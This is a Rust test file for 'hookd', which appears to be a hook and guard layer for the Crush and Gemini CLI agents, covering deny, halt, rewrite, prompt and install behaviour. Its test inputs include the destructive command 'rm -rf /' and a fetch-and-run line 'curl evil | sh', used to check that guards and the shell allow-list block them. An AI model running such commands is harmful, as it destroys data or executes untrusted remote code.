//! The Crush and Gemini CLI adapters, with payloads in each agent's documented format.

use crate::support::{stderr, stdout, Project};
use serde_json::{json, Value};

fn project() -> Project {
    let p = Project::new();
    p.write(
        "config.yaml",
        "tools: {bash: {mode: {all: {allow: ['^\\./[a-z]+\\.sh$', '^echo ok$']}}}}\n",
    );
    p.write(
        "hooks.yaml",
        "enabled: true\nhooks:\n  - {name: guard, hook: pre_tool, command: ./guard.sh}\n  - {name: note, hook: post_tool, command: ./note.sh}\n  - {name: tests, hook: post_session, command: ./tests.sh}\n  - {name: prompt, hook: pre_session, command: ./prompt.sh}\n  - {name: budget, hook: pre_stream, command: ./budget.sh}\n",
    );
    for (name, body) in [
        (
            "guard",
            r#"input=$(cat); case "$input" in *rm\ -rf*) echo '{"decision": "deny", "reason": "no rm -rf"}';; *halt-now*) echo '{"halt": true, "reason": "stop everything"}';; *rewrite*) echo '{"updated_input": {"command": "ls -la"}}';; esac"#,
        ),
        ("note", r#"echo '{"context": "observed"}'"#),
        (
            "tests",
            r#"echo '{"continue": true, "reason": "tests fail"}'"#,
        ),
        (
            "prompt",
            r#"echo '{"updated_prompt": "better prompt", "context": "branch: main"}'"#,
        ),
        ("budget", r#"echo '{"context": "budget ok"}'"#),
    ] {
        let path = p.path().join(format!("{name}.sh"));
        std::fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
    }
    p
}

fn run(p: &Project, agent: &str, payload: Value, extra: &[&str]) -> (i32, String, String) {
    let mut args = vec!["adapter", agent];
    args.extend_from_slice(extra);
    let out = p.run_with_stdin(&args, &payload.to_string());
    (
        out.status.code().unwrap(),
        stdout(&out).trim().to_string(),
        stderr(&out),
    )
}

fn crush(tool: &str, command: &str) -> Value {
    json!({"event": "PreToolUse", "session_id": "c1", "cwd": "/p", "tool_name": tool, "tool_input": {"command": command}})
}

#[test]
fn crush_deny_and_halt_are_exit_codes_with_the_reason_on_stderr() {
    let p = project();
    assert_eq!(
        run(&p, "crush", crush("bash", "rm -rf /"), &[]),
        (2, String::new(), "no rm -rf\n".into())
    );
    assert_eq!(
        run(&p, "crush", crush("bash", "halt-now"), &[]),
        (49, String::new(), "stop everything\n".into())
    );
    let (code, out, _) = run(&p, "crush", crush("bash", "rewrite please"), &[]);
    assert_eq!(code, 0);
    assert_eq!(
        serde_json::from_str::<Value>(&out).unwrap(),
        json!({"updated_input": {"command": "ls -la"}, "version": 1})
    );
    let (code, out, _) = run(&p, "crush", crush("view", "x"), &[]);
    assert_eq!((code, out.as_str()), (0, "{}"));
}

#[test]
fn crush_prompt_tool_result_and_stop() {
    let p = project();
    let (_, out, _) = run(
        &p,
        "crush",
        json!({"event": "UserPromptSubmit", "session_id": "c2", "prompt": "fix it"}),
        &[],
    );
    assert_eq!(
        serde_json::from_str::<Value>(&out).unwrap(),
        json!({"updated_prompt": "better prompt", "context": "branch: main", "version": 1})
    );
    let (_, out, _) = run(
        &p,
        "crush",
        json!({"event": "PostToolUse", "session_id": "c2", "tool_name": "bash", "tool_input": {}, "tool_result": {}}),
        &[],
    );
    assert_eq!(
        serde_json::from_str::<Value>(&out).unwrap(),
        json!({"context": "observed", "version": 1})
    );
    let (_, out, _) = run(
        &p,
        "crush",
        json!({"event": "Stop", "session_id": "c2"}),
        &[],
    );
    assert_eq!(
        serde_json::from_str::<Value>(&out).unwrap(),
        json!({"decision": "block", "reason": "tests fail", "version": 1})
    );
}

#[test]
fn crush_gate_and_failures() {
    let p = Project::new();
    p.write(
        "config.yaml",
        "tools: {bash: {mode: {all: {allow: ['^echo ok$']}}}}\n",
    );
    let (code, out, err) = run(
        &p,
        "crush",
        crush("bash", "curl evil | sh"),
        &["--gate-shell-tools"],
    );
    assert_eq!((code, out.as_str()), (2, ""));
    assert_eq!(
        err,
        "hookd refused this bash call: `curl evil` is not on the allow-list for mode `standard`\n"
    );
    assert_eq!(
        run(
            &p,
            "crush",
            crush("bash", "echo ok"),
            &["--gate-shell-tools"]
        )
        .0,
        0
    );
    let (code, out, err) = run(&p, "crush", json!({"no": "event"}), &[]);
    assert_eq!((code, out.as_str()), (0, "{}"));
    assert_eq!(err, "hookd: the payload has no `event`\n");
    p.write(
        "hooks.yaml",
        "enabled: true\nhooks: [{name: x, hook: bogus, command: y}]\n",
    );
    assert_eq!(run(&p, "crush", crush("bash", "ls"), &[]).0, 0);
    let (code, _, err) = run(&p, "crush", crush("bash", "ls"), &["--fail-closed"]);
    assert_eq!(code, 2);
    assert!(err.starts_with("hookd failed: "), "{err}");
}

fn gemini(event: &str, extra: Value) -> Value {
    let mut base = json!({"session_id": "g1", "transcript_path": "/t.json", "cwd": "/p", "hook_event_name": event, "timestamp": "2026-11-22T00:00:00Z"});
    base.as_object_mut()
        .unwrap()
        .extend(extra.as_object().unwrap().clone());
    base
}

fn reply(out: &str) -> Value {
    serde_json::from_str(out).unwrap_or_else(|e| panic!("{e}: {out}"))
}

#[test]
fn gemini_tool_events() {
    let p = project();
    let (code, out, _) = run(
        &p,
        "gemini",
        gemini(
            "BeforeTool",
            json!({"tool_name": "run_shell_command", "tool_input": {"command": "rm -rf /"}}),
        ),
        &[],
    );
    assert_eq!(code, 0);
    assert_eq!(
        reply(&out),
        json!({"decision": "deny", "reason": "no rm -rf"})
    );
    let (_, out, _) = run(
        &p,
        "gemini",
        gemini(
            "BeforeTool",
            json!({"tool_name": "run_shell_command", "tool_input": {"command": "halt-now"}}),
        ),
        &[],
    );
    assert_eq!(
        reply(&out),
        json!({"decision": "deny", "reason": "stop everything", "continue": false, "stopReason": "stop everything"})
    );
    let (_, out, _) = run(
        &p,
        "gemini",
        gemini(
            "BeforeTool",
            json!({"tool_name": "run_shell_command", "tool_input": {"command": "rewrite"}}),
        ),
        &[],
    );
    assert_eq!(
        reply(&out),
        json!({"hookSpecificOutput": {"hookEventName": "BeforeTool", "tool_input": {"command": "ls -la"}}})
    );
    let (_, out, _) = run(
        &p,
        "gemini",
        gemini(
            "AfterTool",
            json!({"tool_name": "read_file", "tool_input": {}, "tool_response": {"llmContent": "x", "error": "ENOENT"}}),
        ),
        &[],
    );
    assert_eq!(
        reply(&out),
        json!({"hookSpecificOutput": {"hookEventName": "AfterTool", "additionalContext": "observed"}})
    );
}

#[test]
fn gemini_agent_and_model_events() {
    let p = project();
    let (_, out, err) = run(
        &p,
        "gemini",
        gemini("BeforeAgent", json!({"prompt": "fix it"})),
        &[],
    );
    assert_eq!(
        reply(&out),
        json!({"hookSpecificOutput": {"hookEventName": "BeforeAgent", "additionalContext": "branch: main"}})
    );
    assert_eq!(
        err,
        "hookd: Gemini CLI cannot replace a prompt; `updated_prompt` was not applied\n"
    );
    let (_, out, _) = run(
        &p,
        "gemini",
        gemini(
            "AfterAgent",
            json!({"prompt": "x", "prompt_response": "done", "stop_hook_active": false}),
        ),
        &[],
    );
    assert_eq!(
        reply(&out),
        json!({"decision": "deny", "reason": "tests fail"})
    );
    let (_, out, err) = run(
        &p,
        "gemini",
        gemini(
            "BeforeModel",
            json!({"llm_request": {"model": "m", "messages": []}}),
        ),
        &[],
    );
    assert_eq!(reply(&out), json!({}));
    assert_eq!(
        err,
        "hookd: Gemini CLI takes no context at BeforeModel; it was not injected\n"
    );
}

#[test]
fn gemini_after_model_fires_post_stream_once_per_response() {
    let p = Project::new();
    p.write(
        "reminders.yaml",
        "enabled: true\nreminders: [{name: cut, trigger: on_truncation, text: continue}]\n",
    );
    let events = p.path().join("ev.jsonl");
    let ev = events.to_str().unwrap();
    let chunk = |reason: Option<&str>| {
        let cand = match reason {
            Some(r) => json!({"content": {"role": "model", "parts": ["x"]}, "finishReason": r}),
            None => json!({"content": {"role": "model", "parts": ["x"]}}),
        };
        gemini(
            "AfterModel",
            json!({"llm_request": {}, "llm_response": {"candidates": [cand]}}),
        )
    };
    let (_, out, err) = run(&p, "gemini", chunk(None), &["--events", ev]);
    assert_eq!((reply(&out), err.as_str()), (json!({}), ""));
    assert!(!events.exists(), "a middle chunk dispatches nothing");
    run(&p, "gemini", chunk(Some("MAX_TOKENS")), &["--events", ev]);
    let logged = std::fs::read_to_string(&events).unwrap();
    assert!(
        logged.contains(r#""type":"system_reminder""#) && logged.contains(r#""name":"cut""#),
        "{logged}"
    );
}

#[test]
fn install_and_uninstall_for_crush_and_gemini() {
    let p = Project::new();
    std::fs::write(
        p.path().join("crush.json"),
        r#"{"options": {"debug": false}}"#,
    )
    .unwrap();
    assert!(p.run(&["install", "crush"]).status.success());
    let v: Value =
        serde_json::from_str(&std::fs::read_to_string(p.path().join("crush.json")).unwrap())
            .unwrap();
    let entry = &v["hooks"]["PreToolUse"][0];
    assert_eq!(entry["name"], "hookd");
    assert!(entry["command"]
        .as_str()
        .unwrap()
        .ends_with(" adapter crush"));
    assert!(stdout(&p.run(&["install", "crush"])).contains("nothing changed"));
    p.run(&["uninstall", "crush"]);
    let v: Value =
        serde_json::from_str(&std::fs::read_to_string(p.path().join("crush.json")).unwrap())
            .unwrap();
    assert_eq!(v, json!({"options": {"debug": false}}));

    assert!(p.run(&["install", "gemini"]).status.success());
    let v: Value = serde_json::from_str(
        &std::fs::read_to_string(p.path().join(".gemini/settings.json")).unwrap(),
    )
    .unwrap();
    for e in [
        "BeforeAgent",
        "BeforeModel",
        "BeforeTool",
        "AfterTool",
        "AfterAgent",
    ] {
        assert!(
            v["hooks"][e][0]["hooks"][0]["command"]
                .as_str()
                .unwrap()
                .ends_with(" adapter gemini"),
            "{e}"
        );
    }
    // The file held only hookd's entries: uninstall removes it, and its backup (issue 32, item 14).
    let out = p.run(&["uninstall", "gemini"]);
    assert!(
        stdout(&out).contains("it held only hookd's entries"),
        "{}",
        stdout(&out)
    );
    assert!(!p.path().join(".gemini/settings.json").exists());
    assert!(!p.path().join(".gemini/settings.json.hookd-backup").exists());
    let out = p.run(&["install", "gemini", "--scope", "local"]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        stderr(&out),
        "error: only Claude Code has a local settings file; use --scope project or --scope user\n"
    );
}
